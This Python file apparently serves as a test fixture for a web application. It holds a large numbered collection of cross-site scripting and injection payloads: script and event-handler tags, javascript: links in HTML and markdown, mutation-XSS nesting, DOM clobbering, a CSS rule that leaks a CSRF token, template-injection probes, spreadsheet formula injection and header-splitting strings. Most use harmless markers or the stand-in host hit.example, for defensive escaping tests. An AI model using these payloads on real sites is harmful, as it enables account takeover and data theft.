"""What somebody might write so that it runs in another's browser.

Where one of them ran it would set `window.__hit`, ask for an address below `/hit`, or show a
dialogue; where it only got in, an element or attribute stands there that names `hit`.
"""

import re

RUN = "window.__hit=1"
WITH_HTML = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\t>",
    f"<<script>{RUN}//<</script>",
    "<script src=/hit.js></script>",
    "<script src=//hit.example/hit.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror\x0c=\x0c'{RUN}'>",
    f"<img/src='x'/onerror={RUN}>",
    f'<img src="x`<script>{RUN}</script>"` `>',
    "<img src=//hit.example/hit.png>",
    "<img src=x srcset='/hit.png 1x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>{RUN}&#59;</script><a xlink:href=javascript:{RUN}><text y=9>x</text></a>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><use href=/hit.svg#x /></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    "<iframe src=/hit></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    "<object data=/hit></object>",
    "<embed src=/hit>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<base href=//hit.example/>",
    "<meta http-equiv=refresh content='0;url=/hit'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href=/hit.css>",
    "<style>@import '/hit.css';body{display:none}</style>",
    "<div style='background:url(/hit.png);position:fixed;inset:0'>x</div>",
    "<form action=/hit><button autofocus>x</button></form>",
    f"<button form=write formaction=javascript:{RUN}>x</button>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml ?><img src=x onerror={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript&colon;{RUN}'>x</a>",
    f"<a href='\x01javascript:{RUN}'>x</a>",
    f"<a href=vbscript:{RUN}>x</a>",
    f"<a href=x onclick={RUN}>x</a>",
    "<a href=x ping=/hit>x</a>",
)
WITH_QUOTES = (
    f'" onfocus={RUN} autofocus x="',
    f"' onfocus={RUN} autofocus x='",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"` onfocus={RUN} autofocus `",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"</option></select><img src=x onerror={RUN}>",
    f"</iframe><img src=x onerror={RUN}>",
    f"</script><img src=x onerror={RUN}>",
    f"</style></noscript></template><img src=x onerror={RUN}>",
    f"&quot;&gt;&lt;img src=x onerror={RUN}&gt;",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&amp;quot;&amp;gt;&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"＜img src=x onerror={RUN}＞",
    f"%3Cimg%20src%3Dx%20onerror%3D{RUN}%3E",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
)
WITH_MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](&#106;&#97;vascript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](java%0ascript:{RUN})",
    f"[x](java&Tab;script:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==)",
    f"<javascript:{RUN}>",
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f"[x]\n\n[x]: <javascript:{RUN}> 'x'",
    f"![x](javascript:{RUN})",
    f'![x](x "onerror={RUN}")',
    f'![" onerror={RUN} x="](x.png)',
    f"![x](x'onerror={RUN}')",
    "![x](//hit.example/hit.png)",
    "![x](http://hit.example/hit.png)",
    "![x](\\\\hit.example/hit.png)",
    "![x](data:image/svg+xml,<svg/onload=window.__hit=1>)",
    f'[x](http://a.example "\'><img src=x onerror={RUN}>")',
    f"```<img src=x onerror={RUN}>\n<script>{RUN}</script>\n```",
    f"`` `<img src=x onerror={RUN}> ``",
    f"> [!NOTE] <img src=x onerror={RUN}>\n> <script>{RUN}</script>",
    f"# <img src=x onerror={RUN}> {{#x onclick={RUN}}}",
    f"|<img src=x onerror={RUN}>|\n|-|\n|<script>{RUN}</script>|",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"<div>\n\n<script>{RUN}</script>\n\n</div>",
)
WITH_ATTRIBUTES = (
    f"<div hx-on:load={RUN} hx-on::load={RUN}>x</div>",
    "<div hx-get=/hit hx-trigger=load>x</div>",
    "<div data-hx-get=/hit data-hx-trigger=load>x</div>",
    "<div hx-post=/hit hx-trigger='load' hx-vals='js:{a:window.__hit=1}'>x</div>",
    f"<hx-partial hx-target=body><script>{RUN}</script></hx-partial>",
    '<div hx-action="js:window.__hit=1" hx-boost=true>x</div>',
    "{{7*7}}{{config}}{%for x in (1,)%}{{x}}{%endfor%}",
    "${7*7}#{7*7}<%=7*7%>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<x @click={RUN} v-on:click={RUN} x-init={RUN}>x</x>",
)
WITH_CHARACTERS = (
    f"a\u2028<script>{RUN}</script>\u2029b",
    f"<img src=x on\0error={RUN}><scr\0ipt>{RUN}</scr\0ipt>",
    f"\u202e<script>{RUN}</script>\u202d\u2066x\u2069",
    f"\ufeff<script>{RUN}</script>\ufffe",
    f"\x1b[31m\x08\x7f\x85<script>{RUN}</script>",
    f"---\nsummary: x\n---\n<script>{RUN}</script>",
    f"x\nsuccessor: javascript:{RUN}\nlibrary_path: ../../hit",
    f"x: !!python/object/apply:os.system ['true'] # <script>{RUN}</script>",
    f"*a &a [*a, <<: {{x: 1}}] <script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"¼script¾{RUN}¼/script¾",
    f"\u003cscript\u003e{RUN}\u003c/script\u003e\u00a0\u200b",
)
WITH_FOREIGN_ELEMENTS = (  # SVG and MathML, and what parsers make of them the second time (mXSS)
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={RUN} /><image href=/hit.png onload={RUN} /></svg>",
    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload={RUN}></foreignObject>",
    f"<svg xmlns=http://www.w3.org/2000/svg><handler type=text/javascript>{RUN}</handler></svg>",
    f"<svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>",
    f"<svg><title><style><!--</style><img src=x onerror={RUN}>--></title></svg>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    "<math><annotation-xml encoding=text/html><iframe src=/hit></iframe></annotation-xml></math>",
    f"<math><mi><mglyph><svg><mtext><textarea><a title='</textarea><img src=x onerror={RUN}>'>",
    f"<table><td><svg><p><style><g title='</style><img src=x onerror={RUN}>'>",
    f"<p><svg></p><math><xmp><b title='</xmp><img src=x onerror={RUN}>'>",
    f"<select><noembed></select><img src=x onerror={RUN}></noembed>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<a href='x' title='&quot;&gt;&lt;img src=x onerror={RUN}&gt;'>x</a>",
    f"<p id='`<img src=x onerror={RUN}>'>",
)
WITH_CLOBBERING = (  # what our scripts and htmx look for by id, name and form
    "<form id=write name=hit data-draft=/hit data-here=/hit><input name=csrf_token value=hit>",
    "<a id=htmx href=/hit name=hit></a><a id=htmx href=/hit name=config></a>",
    "<img name=querySelector><img name=getElementById><img name=hit><img name=body>",
    "<div id=answers name=hit><div id=total class=hit>0</div></div>",
    "<main id=cedu class=hit><a href=/hit>x</a></main>",
    "<input id=f-body name=body form=write value=hit><output form=write name=hit></output>",
    "<textarea id=f-title name=hit>",
    "<input data-suggest=/hit data-script=/hit.js autofocus>",
    "<p data-cedu=/hit class=hit>x</p>",
    "<a data-markdown='<script>hit</script>' data-insert=hit data-copy=hit>x</a>",
    '<meta name=htmx-config content=\'{"selfRequestsOnly":false,"hit":1}\'>',
)
WITH_STYLES = (  # CSS that tells or hides, and markup left open that would swallow what follows
    "<style>input[name=csrf_token][value^=a]{background:url(/hit?a)}</style>",
    "</style><style>*{background:url(//hit.example/hit.png)!important}",
    f";}}@import'/hit.css';x{{--x:expression({RUN});behavior:url(/hit.htc)",
    "#fff;background:url(/hit.png)",
    '<p style="font-family:\'hit";x:\'>"><link rel=preload as=image href=/hit.png>',
    "<img src='/hit?",
    '<img src="//hit.example/hit?',
    "<form action=/hit><textarea name=hit>",
    "<a href=/hit target='",
    "<base target='",
    "<plaintext>hit",
    "<!-- hit",
    "<iframe src=/hit name='",
)
WITH_NEW_ELEMENTS = (
    f"<dialog open oncancel={RUN} onclose={RUN}><form method=dialog action=/hit>x</form></dialog>",
    f"<button popovertarget=hit>x</button><div popover id=hit onbeforetoggle={RUN}>x</div>",
    f"<p is=hit-element onanimationend={RUN} onpointerrawupdate={RUN} contenteditable>x</p>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f"<details ontoggle={RUN} open name=hit><summary>x</summary></details>",
    f"<video autoplay src=x onerror={RUN} poster=/hit.png><track src=/hit default></video>",
    f"<body onhashchange={RUN} onpageshow={RUN} background=/hit.png>",
    "<frameset><frame src=/hit></frameset>",
    "<portal src=/hit></portal><fencedframe src=/hit></fencedframe>",
    "<link rel=manifest href=/hit><link rel=prefetch href=/hit><link rel=modulepreload href=/hit>",
    "<script type=module>import '/hit.js'</script><script type=importmap>{\"imports\":{}}</script>",
    '<script type=speculationrules>{"prefetch":[{"urls":["/hit"]}]}</script>',
    "<img src=x srcset='//hit.example/hit.png 2x' sizes=1px><picture><source srcset=/hit.png>",
    "<object type=text/html data='data:text/html,hit'><param name=movie value=/hit></object>",
    "<image src=/hit.png><isindex action=/hit><bgsound src=/hit><applet code=/hit>",
)
WITH_ODD_LETTERS = (
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"<scr\u0130pt>{RUN}</scr\u0130pt><\u212aeygen autofocus onfocus={RUN}>",
    f"[x](java\u017fcript:{RUN})<a href='java\u017fcript:{RUN}'>x</a>",
    f"\uff1cscript\uff1e{RUN}\uff1c\uff0fscript\uff1e\ufe64img src=x onerror={RUN}\ufe65",
    f"<img src=x\u3000onerror={RUN}><img\u00a0src=x\u2003onerror={RUN}>",
    f"<a href='\u200bjavascript:{RUN}'>x</a><a href='\u00a0javascript:{RUN}'>x</a>",
    f"<a href='javascript\uff1a{RUN}'>x</a><a href='javascript&#0058;{RUN}'>x</a>",
    f"<a\u0301 href=javascript:{RUN}>x</a>\u202e<gpj.tpircs/>",
    "<a href='\\\\hit.example/hit'>x</a><img src='/\\hit.example/hit.png'>",
    "<img src='\thttps:hit.example/hit.png'><img src='///hit.example/hit.png'>",
)
WITH_SEVERAL_MEANINGS = (  # right in several languages at once
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/"
    f"--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
    f"'\"--></style></script></title></textarea></noscript></template><svg/onload={RUN}>",
    f'\\";{RUN};//</script><script>{RUN}//]]></script>',
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script><![CDATA[",
    f"<?xml-stylesheet href='/hit.xsl' type='text/xsl'?><x:script xmlns:x='http://www.w3.org/1999/"
    f"xhtml'>{RUN}</x:script>",
    "<!DOCTYPE x [<!ENTITY hit SYSTEM '/hit'>]>&hit;",
    '=HYPERLINK("http://hit.example/hit","x")',
    "@SUM(1)+cmd|' /C hit'!A0",
    "data:text/html,<script>parent.__hit=1</script>",
    f"javascript:{RUN}",
    f"hit\r\nSet-Cookie: hit=1\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
)
ATTACKS = (
    *(*WITH_HTML, *WITH_QUOTES, *WITH_MARKDOWN, *WITH_ATTRIBUTES, *WITH_CHARACTERS),
    *(*WITH_FOREIGN_ELEMENTS, *WITH_CLOBBERING, *WITH_STYLES, *WITH_NEW_ELEMENTS),
    *(*WITH_ODD_LETTERS, *WITH_SEVERAL_MEANINGS),
)
NUMBER = re.compile(r"〔([0-9]+)〕")  # by which is known which of them is shown
NUMBERED = tuple(f"{attack}〔{number}〕" for number, attack in enumerate(ATTACKS))
ALL = "\n\n".join(NUMBERED)
LINE = " ".join(ALL.replace("\0", "").split())  # for fields of one line, which take no NUL


def in_one_line(attack: str, longest: int) -> str:
    """Return an attack as a field of one line would take it; what is too long begins later."""
    line = " ".join(attack.replace("\0", "").split())
    return line[-longest:]


def printable(attack: str, longest: int) -> str:
    """Return of an attack what a name may be made of."""
    return "".join(sign for sign in in_one_line(attack, longest) if sign.isprintable()).strip()


def packed(longest: int) -> list[str]:
    """Return lines of at most so many signs that have every attack, as many in one as go in."""
    lines = [""]
    for attack in NUMBERED:
        line = in_one_line(attack, longest)
        if len(lines[-1]) + 1 + len(line) > longest:
            lines.append("")
        lines[-1] = f"{lines[-1]} {line}".strip()
    return lines
